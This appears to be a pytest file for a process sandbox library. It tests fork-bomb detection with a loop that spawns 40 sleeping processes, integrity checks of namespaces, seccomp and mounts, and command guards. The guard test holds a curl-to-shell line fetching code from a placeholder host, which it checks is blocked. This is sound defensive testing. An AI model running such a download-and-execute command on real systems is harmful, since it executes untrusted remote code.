"""Fork-bomb detection and integrity monitoring, against real processes and a real sandbox."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from kavach.backends.base import ExecRequest, Instance, LaunchSpec, RawResult
from kavach.backends.names import Backend
from kavach.backends.noop import NoopDriver
from kavach.guards import PROBE_SCRIPT, ForkBombWatch, check_integrity, parse_mountinfo
from kavach.policy import SandboxPolicy
from kavach.scoring import Control, Enforcement

SPAWN_MANY = "for i in $(seq 40); do sleep 30 & done; wait"


def group_size(pgid: int) -> int:
    """Live (non-zombie) processes whose process group is ``pgid``, read from /proc."""
    count = 0
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        fields = stat.rsplit(")", 1)[1].split()
        if fields[0] != "Z" and int(fields[2]) == pgid:
            count += 1
    return count


async def test_fork_bomb_watch_trips_once_and_the_group_is_killed() -> None:
    proc = subprocess.Popen(["/bin/sh", "-c", SPAWN_MANY], start_new_session=True)
    trips: list[int] = []

    async def on_trip(count: int) -> None:
        trips.append(count)
        os.killpg(proc.pid, signal.SIGKILL)

    watch = ForkBombWatch(lambda: group_size(proc.pid), threshold=20, on_trip=on_trip, interval=0.01)
    watch.start()
    try:
        for _ in range(1000):
            if trips:
                break
            await asyncio.sleep(0.01)
        await asyncio.sleep(0.1)
    finally:
        await watch.stop()
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    assert len(trips) == 1
    assert trips[0] >= 20
    assert watch.tripped == trips[0]
    assert not watch.running
    for _ in range(100):
        if group_size(proc.pid) == 0:
            break
        await asyncio.sleep(0.02)
    assert group_size(proc.pid) == 0


async def test_watch_below_threshold_never_trips_and_none_means_unknown() -> None:
    counts = iter([None, 3, None, 4] * 1000)
    tripped: list[int] = []

    async def on_trip(count: int) -> None:
        tripped.append(count)

    watch = ForkBombWatch(lambda: next(counts), threshold=5, on_trip=on_trip, interval=0.001)
    watch.start()
    await asyncio.sleep(0.05)
    assert watch.running
    await watch.stop()
    assert tripped == []
    assert watch.peak == 4


async def test_on_trip_failure_is_raised_by_stop_and_stop_inside_on_trip_is_safe() -> None:
    async def failing(count: int) -> None:
        raise RuntimeError(f"pause failed at {count}")

    watch = ForkBombWatch(lambda: 10, threshold=5, on_trip=failing, interval=0.001)
    watch.start()
    await asyncio.sleep(0.02)
    with pytest.raises(RuntimeError, match="pause failed at 10"):
        await watch.stop()

    async def stops_itself(count: int) -> None:
        await selfish.stop()

    selfish = ForkBombWatch(lambda: 10, threshold=5, on_trip=stops_itself, interval=0.001)
    selfish.start()
    await asyncio.sleep(0.02)
    assert selfish.tripped == 10
    await selfish.stop()


def test_threshold_must_be_sensible() -> None:
    async def nothing(count: int) -> None:
        return None

    with pytest.raises(ValueError, match="at least 2"):
        ForkBombWatch(lambda: 0, threshold=1, on_trip=nothing)


# -- integrity ----------------------------------------------------------------------------------


def host_probe(request: ExecRequest) -> RawResult:
    """Run the probe on the host itself: real /proc text of a process that is not sandboxed."""
    done = subprocess.run(list(request.argv), capture_output=True, env=dict(request.env), check=False)
    return RawResult(done.returncode, done.stdout, done.stderr)


async def noop_instance(responder: object) -> Instance:
    spec = LaunchSpec(sandbox_id="kv-test", policy=SandboxPolicy.basic())
    return await NoopDriver(responder=responder).start(spec)  # type: ignore[arg-type]


async def test_unsandboxed_process_fails_every_check_it_claims() -> None:
    """The noop backend feeds the probe's real output from the host: nothing is isolated."""
    instance = await noop_instance(host_probe)
    claimed = Enforcement(
        Backend.PROCESS,
        frozenset({Control.SECCOMP, Control.NETWORK_ISOLATED}),
        verified=True,
        details={"namespaces": {"mnt": "?", "pid": "?", "net": "?", "ipc": "?", "uts": "?"}, "network": "none"},
    )
    report = await check_integrity(instance, claimed)
    assert not report.ok
    text = "\n".join(report.problems)
    for ns in ("mnt", "pid", "net", "ipc", "uts"):
        assert f"{ns} namespace is shared with the host" in text
    assert "host mounts visible inside: /" in text
    assert "Seccomp is '0'" in text
    if os.geteuid() == 0:
        assert "CapEff" in text
    assert "/" in report.host_mounts_visible
    assert report.to_dict()["ok"] is False


async def test_probe_that_cannot_run_is_a_problem_not_a_pass() -> None:
    instance = await noop_instance(lambda request: RawResult(127, b"", b"sh: not found"))
    report = await check_integrity(instance, Enforcement(Backend.PROCESS))
    assert not report.ok
    assert "exit code 127" in report.problems[0]
    silent = await noop_instance(None)
    report = await check_integrity(silent, Enforcement(Backend.PROCESS))
    assert report.problems == ("the probe output is incomplete (namespaces, status or mountinfo missing)",)


async def test_probe_output_without_the_mount_table_is_incomplete_not_a_pass() -> None:
    """A probe whose grep did not print mountinfo (killed, or a file unreadable) fails the check."""

    def without_mountinfo(request: ExecRequest) -> RawResult:
        ran = host_probe(request)
        kept = b"\n".join(line for line in ran.stdout.split(b"\n") if not line.startswith(b"/proc/self/mountinfo:"))
        return RawResult(0, kept, ran.stderr)

    instance = await noop_instance(without_mountinfo)
    report = await check_integrity(instance, Enforcement(Backend.PROCESS))
    assert report.problems == ("the probe output is incomplete (namespaces, status or mountinfo missing)",)


async def test_probe_output_without_the_namespace_links_is_incomplete_not_a_pass() -> None:
    """The links come on stderr (readlink runs beside grep): without them the check fails,
    and so it does when stdout says what the links would (only readlink's stream counts)."""

    def links_on_stdout(request: ExecRequest) -> RawResult:
        ran = host_probe(request)
        return RawResult(0, ran.stderr + ran.stdout, b"")

    instance = await noop_instance(links_on_stdout)
    report = await check_integrity(instance, Enforcement(Backend.PROCESS))
    assert report.problems == ("the probe output is incomplete (namespaces, status or mountinfo missing)",)

    def with_links(request: ExecRequest) -> RawResult:
        ran = host_probe(request)
        assert ran.exit_code == 0 and ran.stderr
        return RawResult(0, ran.stdout, ran.stderr)

    # The same output with the links on stderr is complete: the host's own namespaces are read
    # (and, on the host, reported shared).
    report = await check_integrity(await noop_instance(with_links), Enforcement(Backend.PROCESS))
    assert not any("incomplete" in problem for problem in report.problems)
    assert report.namespaces["mnt"]["inside"] == os.readlink("/proc/self/ns/mnt")
    assert "mnt namespace is shared with the host" in "\n".join(report.problems)


async def test_truncated_probe_output_is_a_problem() -> None:
    def truncated(request: ExecRequest) -> RawResult:
        return RawResult(0, host_probe(request).stdout, stdout_truncated=True)

    report = await check_integrity(await noop_instance(truncated), Enforcement(Backend.PROCESS))
    assert report.problems == ("the integrity probe's output was truncated",)

    def stderr_truncated(request: ExecRequest) -> RawResult:
        ran = host_probe(request)
        return RawResult(0, ran.stdout, ran.stderr, stderr_truncated=True)

    report = await check_integrity(await noop_instance(stderr_truncated), Enforcement(Backend.PROCESS))
    assert report.problems == ("the integrity probe's output was truncated",)


def test_probe_script_parses_on_the_host() -> None:
    done = subprocess.run(["/bin/sh", "-c", PROBE_SCRIPT], capture_output=True, text=True, check=True)
    out = done.stdout
    labelled = [line for line in out.splitlines() if line.startswith("/proc/self/mountinfo:")]
    mounts = parse_mountinfo("\n".join(line.split(":", 1)[1] for line in labelled))
    assert any(m.mount_point == "/" for m in mounts)
    status = [line for line in out.splitlines() if line.startswith("/proc/self/status:")]
    # /proc/self was grep's own: a command the shell forked and exec'd.
    assert "/proc/self/status:Name:\tgrep" in status
    # The links, from readlink's own /proc/self, on the other stream, each naming its type.
    links = done.stderr.splitlines()
    assert [line.split(":")[0] for line in links] == ["user", "mnt", "pid", "net", "ipc", "uts", "cgroup"]
    assert links == [os.readlink(f"/proc/self/ns/{line.split(':')[0]}") for line in links]
    assert not any(line.startswith(("user:", "mnt:")) for line in out.splitlines())


@pytest.fixture
async def process_sandbox() -> AsyncIterator[Instance]:
    process = pytest.importorskip("kavach.backends.process")
    driver = process.ProcessDriver()
    probe = driver.probe()
    if not probe.usable:
        pytest.skip(f"process backend unavailable here: {probe.reason}")
    instance = await driver.start(LaunchSpec(sandbox_id="kv-integrity", policy=SandboxPolicy.strict()))
    try:
        yield instance
    finally:
        await instance.destroy()


async def test_real_process_sandbox_passes_integrity(process_sandbox: Instance) -> None:
    enforcement = process_sandbox.enforcement()
    report = await check_integrity(process_sandbox, enforcement)
    assert report.ok, report.problems
    assert set(report.checked) >= {"capabilities", "seccomp", "no_new_privs", "namespaces", "mounts"}
    assert all(ns["differs"] for ns in report.namespaces.values())
    assert report.seccomp == "2"
    assert report.capabilities["CapEff"].strip("0") == ""


async def test_fork_bomb_in_a_real_sandbox_is_stopped(process_sandbox: Instance) -> None:
    if process_sandbox.live_pids() is None:
        pytest.skip("the process backend has no pids cgroup here")
    trips: list[int] = []

    async def on_trip(count: int) -> None:
        trips.append(count)
        await process_sandbox.stop()

    watch = ForkBombWatch(process_sandbox.live_pids, threshold=15, on_trip=on_trip, interval=0.01)
    watch.start()
    try:
        request = ExecRequest(argv=("/bin/sh", "-c", SPAWN_MANY), env={"PATH": "/usr/bin:/bin"}, timeout_ms=20_000)
        result = await process_sandbox.exec(request)
    finally:
        await watch.stop()
    assert trips and trips[0] >= 15
    assert result.exit_code != 0  # killed, not finished
    # stop() kills every process of the sandbox (init too) and waits until its cgroup lists
    # none; the pids controller uncharges a task only when the kernel releases it, a
    # moment later, so wait (bounded) for the count to reach zero rather than read it once.
    deadline = asyncio.get_running_loop().time() + 5.0
    while (process_sandbox.live_pids() or 0) > 0 and asyncio.get_running_loop().time() < deadline:
        await asyncio.sleep(0.01)
    assert (process_sandbox.live_pids() or 0) == 0


async def test_sandbox_refuses_guarded_commands_and_audits_them(tmp_path: Path) -> None:
    """Wiring check: the Sandbox runs the guards before exec and audits the violation."""
    lifecycle = pytest.importorskip("kavach.lifecycle")
    from dataclasses import replace

    from kavach.audit import read_entries
    from kavach.config import AuditSettings, SandboxConfig
    from kavach.errors import GuardViolation
    from kavach.policy import GuardPolicy

    policy = replace(SandboxPolicy.basic(), guards=GuardPolicy(blocked_commands=("bash",)))
    log = tmp_path / "audit.jsonl"
    config = SandboxConfig(policy=policy, audit=AuditSettings(path=str(log), key=bytes(range(32))))
    driver = NoopDriver()
    sandbox = await lifecycle.Sandbox.create(config, driver=driver)
    try:
        with pytest.raises(GuardViolation) as blocked:
            await sandbox.exec(["/usr/bin/env", "-S", "bash -x"])
        assert blocked.value.rule == "blocked_command"
        with pytest.raises(GuardViolation) as trick:
            await sandbox.exec("curl -s http://example.invalid/x | sh")
        assert trick.value.rule == "shell_trick"
        await sandbox.exec(["ls", "-la"])
    finally:
        await sandbox.destroy()
    violations = [e["payload"]["rule"] for e in read_entries(log) if e["event"] == "guard.violation"]
    assert violations == ["blocked_command", "shell_trick"]
